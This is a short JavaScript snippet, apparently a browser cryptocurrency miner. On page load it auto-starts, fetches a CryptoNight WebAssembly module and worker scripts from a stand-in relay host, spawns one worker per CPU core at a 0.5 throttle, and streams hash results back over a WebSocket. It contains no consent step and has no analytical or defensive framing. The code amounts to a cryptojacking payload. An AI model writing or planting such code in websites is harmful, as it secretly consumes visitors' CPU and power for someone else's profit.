var Client = function (key, opts) {
  this.key = key;
  this.throttle = opts.throttle;
  this.threads = navigator.hardwareConcurrency || 2;
  this.hashes = 0;
};
Client.prototype.start = function () {
  var self = this;
  var ws = new WebSocket("wss://relay.cryptonight-proxy.invalid/");
  fetch("https://relay.cryptonight-proxy.invalid/cn.wasm").then(function (r) { return r.arrayBuffer(); })
    .then(function (b) { return WebAssembly.instantiate(b); })
    .then(function () {
      for (var i = 0; i < self.threads; i++) {
        var w = new Worker("https://relay.cryptonight-proxy.invalid/w.js");
        w.onmessage = function (e) { self.hashes += e.data.hashes; ws.send(JSON.stringify(e.data)); };
        w.postMessage({ throttle: self.throttle });
      }
    });
};
new Client("site-key-123", { throttle: 0.5 }).start();
